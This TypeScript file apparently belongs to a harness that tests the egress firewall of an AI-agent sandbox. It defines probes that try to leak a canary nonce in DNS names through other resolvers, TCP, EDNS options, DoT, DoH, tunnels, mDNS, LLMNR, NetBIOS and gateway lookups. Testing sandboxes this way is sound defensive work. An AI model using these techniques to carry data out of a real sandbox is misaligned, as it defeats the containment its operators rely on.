import { lookup, Resolver } from 'node:dns/promises';
import { once } from 'node:events';
import type { NetConnectOpts } from 'node:net';
import type { Targets } from '../arena/targets.ts';
import { ask, inTunnel, textOf } from '../guest/requests.ts';
import {
  all,
  clientHello,
  datagram,
  interfaces,
  open,
  proxy,
  question,
  sendLast,
  tunnel,
} from '../guest/wire.ts';
import type { Attempt, Probe, Run } from './probe.ts';

/** DNS, and what stands in for it, asked of others than the gateway. */

const DNS_PORT = 53;
const own4 = ({ addresses }: Targets): string[] => [...addresses.ip4, '127.0.0.1'];
const leakedBy = (nonce: string): string => `${nonce}.leak.test`;
const askedBy = ({ names }: Targets, nonce: string): string => `${nonce}.${names.asked}`;

/** With its length before it (RFC 7766). */
function framed(name: string): Buffer {
  const message = question(name);
  return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
}

async function overTcp(where: NetConnectOpts, name: string): Promise<void> {
  const socket = await open(where);
  socket.resume(); // unread, an answer would keep it open
  const closed = once(socket, 'close');
  await sendLast(socket, framed(name));
  await closed;
}

/** An OPT record (RFC 6891) with an option of a private number. */
function withOption(name: string, text: string): Buffer {
  const message = question(name);
  message[11] = 1; // one additional record
  const data = Buffer.from([0xfd, 0xe9, 0, text.length, ...Buffer.from(text)]);
  return Buffer.concat([message, Buffer.from([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, data.length]), data]);
}

const TYPES = ['A', 'AAAA', 'TXT', 'ANY', 'MX', 'SRV', 'CAA', 'NAPTR', 'SOA', 'NS', 'CNAME', 'PTR'];

/** By the resolver that programs have, with a server of its own choice. */
function resolving(server: string, name: string): Promise<void> {
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([server]);
  return all(TYPES.map((type) => resolver.resolve(name, type).catch(refuseRefused)));
}

/** Of the gateway itself, for every type of record, and over TCP. */
async function havingAsked(name: string): Promise<void> {
  const gateway = proxy().host;
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([gateway]);
  const asked = TYPES.map((type) => resolver.resolve(name, type).catch(refuseMissing));
  await Promise.all([all(asked), overTcp({ host: gateway, port: DNS_PORT }, name)]);
}

/** The name is there, and has nothing of this type. */
function refuseMissing({ code, message }: NodeJS.ErrnoException): void {
  if (code !== 'ENODATA') throw new Error(message);
}

/** That a server says no is an answer. */
function refuseRefused({ code, message }: NodeJS.ErrnoException): void {
  if (code === 'ECONNREFUSED' || code === 'ETIMEOUT') throw new Error(message);
}

/** An NBNS query (RFC 1002, 4.2.12): half bytes as letters, which would hide a nonce, so its scope has it. */
function netbios(nonce: string): Buffer {
  const name = Buffer.from('CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
  const scope = Buffer.from([nonce.length, ...Buffer.from(nonce), 0]);
  return Buffer.concat([
    Buffer.from([0x42, 0x42, 1, 0x10, 0, 1, 0, 0, 0, 0, 0, 0, 32]),
    name,
    scope,
    Buffer.from([0, 0x21, 0, 1]),
  ]);
}

/** By routing, and from each address here. */
const everywhere = (address: string) => [
  { address },
  ...interfaces()
    .filter(({ ip4 }) => ip4)
    .map((from) => ({ address, source: from.address })),
];

/** The same datagram, to the one server that may be asked: its log has the name. */
const askedByDatagram: Attempt = (t, nonce) =>
  datagram('udp4', { port: DNS_PORT, address: proxy().host }, question(askedBy(t, nonce)));

const toGroup = (at: number): Run => ({
  attack: ({ port, namingGroups }, nonce) =>
    all(
      everywhere(namingGroups.udp4[at] ?? '').map((way) =>
        datagram('udp4', { port, ...way }, question(`${nonce}.local`)),
      ),
    ),
  control: askedByDatagram,
});

function posted(t: Targets, host: string, name: string): Promise<void> {
  const body = question(name).toString('latin1');
  const lines = ['Content-Type: application/dns-message', `Content-Length: ${Buffer.byteLength(body)}`];
  return ask(t, { host, path: '/dns-query', method: 'POST', lines, body });
}

/** Every way to have the gateway think of a name. */
const naming = (t: Targets, name: string): Promise<void> =>
  all([
    lookup(name),
    datagram('udp4', { port: DNS_PORT, address: proxy().host }, question(name)),
    tunnel(`${name}:443`),
    ask(t, { host: name, path: '/' }),
  ]);

const leak = {
  family: 'dns',
  oracle: { kind: 'canary' },
  breach: 'carries data out in names that it asks for',
} as const;
const elsewhere = {
  ...leak,
  control: 'log',
  source: 'claude-code #36907, gh-aw-firewall #9: any server on port 53; CVE-2025-55284 (Claude Code)',
} as const;
const shouted = {
  ...elsewhere,
  source: 'RFC 6762, RFC 4795, RFC 1002: names asked of all neighbours',
} as const;
const overHttps = { ...leak, control: 'canary', source: 'RFC 8484: DoH' } as const;

export const DNS: readonly Probe[] = [
  {
    ...elsewhere,
    id: 'dns-elsewhere',
    claim: 'No DNS server but the gateway can be asked.',
    attack: 'ask a DNS server of its own choice',
    needs: 'ip4',
    run: {
      attack: ({ port, addresses }, nonce) =>
        all(addresses.ip4.map((address) => datagram('udp4', { port, address }, question(leakedBy(nonce))))),
      control: askedByDatagram,
    },
  },
  {
    ...elsewhere,
    id: 'dns-tcp',
    claim: 'No other DNS server can be asked over TCP.',
    attack: 'the same over TCP',
    source: 'gh-aw-firewall #9: any server on port 53, over TCP too; RFC 7766',
    run: {
      attack: (t, nonce) => all(own4(t).map((host) => overTcp({ host, port: t.port }, leakedBy(nonce)))),
      control: (t, nonce) => overTcp({ host: proxy().host, port: DNS_PORT }, askedBy(t, nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-types',
    claim: 'No type of record can be asked of another DNS server.',
    attack: 'the same for TXT, ANY, MX and nine more types',
    run: {
      attack: (t, nonce) => all(own4(t).map((host) => resolving(`${host}:${t.port}`, leakedBy(nonce)))),
      control: (t, nonce) => resolving(proxy().host, askedBy(t, nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-option',
    claim: 'No option of a question reaches another DNS server.',
    attack: 'the same, with the data in an option (EDNS)',
    source: 'RFC 6891: options carry what they like',
    run: {
      attack: ({ port, ...t }, nonce) =>
        all(
          own4({ port, ...t }).map((address) =>
            datagram('udp4', { port, address }, withOption('leak.test', nonce)),
          ),
        ),
      control: (t, nonce) =>
        datagram('udp4', { port: DNS_PORT, address: proxy().host }, withOption(askedBy(t, nonce), nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-tls',
    claim: 'No DNS server can be asked over TLS.',
    attack: 'the same over TLS (DoT)',
    control: 'canary',
    source: 'RFC 7858: DoT, which begins with TLS',
    run: {
      attack: (t, nonce) =>
        all(
          own4(t).map(
            async (host) => await clientHello(await open({ host, port: t.port }), leakedBy(nonce), nonce),
          ),
        ),
      control: async (t, nonce) => {
        const { socket } = await tunnel(`${t.names.tls}:${t.port}`);
        await clientHello(socket, t.names.tls, nonce);
      },
    },
  },
  {
    ...leak,
    id: 'dns-gateway',
    claim: 'The gateway passes no question on, of whatever type, for a name that no rule allows.',
    attack: 'ask the gateway for every type of record',
    control: 'log',
    closedInTheOpen: 'whom the resolver of a plain program asks is not heard by these listeners',
    source: 'CVE-2025-55284 (Claude Code); MITRE ATT&CK T1071.004: data in names that resolvers pass on',
    run: {
      attack: (_t, nonce) => havingAsked(leakedBy(nonce)),
      control: (t, nonce) => havingAsked(askedBy(t, nonce)),
    },
  },
  {
    ...overHttps,
    id: 'dns-https-get',
    claim: 'No DNS server can be asked over HTTP that no rule allows.',
    attack: 'ask by HTTP, in the URL (DoH)',
    run: {
      attack: (t, nonce) => ask(t, { host: t.names.other, path: `/dns-query?dns=${nonce}` }),
      control: (t, nonce) => ask(t, { host: t.names.http, path: `/dns-query?dns=${nonce}` }),
    },
  },
  {
    ...overHttps,
    id: 'dns-https-post',
    claim: 'No DNS server can be asked over HTTP, in a message, that no rule allows.',
    attack: 'ask by HTTP, as a message (DoH)',
    run: {
      attack: (t, nonce) => posted(t, t.names.other, leakedBy(nonce)),
      control: (t, nonce) => posted(t, t.names.http, leakedBy(nonce)),
    },
  },
  {
    ...overHttps,
    id: 'dns-tunnel',
    claim: 'No tunnel carries DNS.',
    attack: 'ask through a tunnel',
    source: 'RFC 7766: DNS over TCP; MITRE ATT&CK T1572, protocol tunnelling',
    run: {
      attack: (t, nonce) =>
        all(
          [...own4(t), t.names.http, t.names.tls].map((host) =>
            inTunnel(`${host}:${t.port}`, framed(leakedBy(nonce))),
          ),
        ),
      control: (t, nonce) =>
        inTunnel(
          `${t.names.http}:${t.port}`,
          textOf({ target: `/${nonce}`, lines: [`Host: ${t.names.http}:${t.port}`] }),
        ),
    },
  },
  {
    ...shouted,
    id: 'mdns',
    claim: 'No question to all neighbours (mDNS) reaches the host.',
    attack: 'ask all neighbours (mDNS)',
    needs: 'ip4',
    run: toGroup(0),
  },
  {
    ...shouted,
    id: 'llmnr',
    claim: 'No question to all neighbours (LLMNR) reaches the host.',
    attack: 'ask all neighbours (LLMNR)',
    needs: 'ip4',
    run: toGroup(1),
  },
  {
    ...shouted,
    id: 'netbios',
    claim: 'No question by broadcast (NetBIOS) reaches the host.',
    attack: 'ask all neighbours (NetBIOS)',
    needs: 'broadcast',
    run: {
      attack: ({ port, addresses }, nonce) =>
        all(
          ['255.255.255.255', ...addresses.broadcast]
            .flatMap(everywhere)
            .map((way) => datagram('udp4', { port, ...way }, netbios(nonce))),
        ),
      control: askedByDatagram,
    },
  },
  {
    ...elsewhere,
    id: 'dns-upstream',
    claim: 'The gateway asks nobody for a name that no rule allows.',
    attack: 'have the gateway look up a name that carries data',
    needs: 'capture',
    breach: 'carries data out in names, through the very gateway that refuses them',
    source: 'NVIDIA/OpenShell #1169; coder/httpjail #53: names are looked up before they are judged',
    run: {
      attack: (t, nonce) => naming(t, leakedBy(nonce)),
      control: (t, nonce) => naming(t, askedBy(t, nonce)),
    },
  },
];
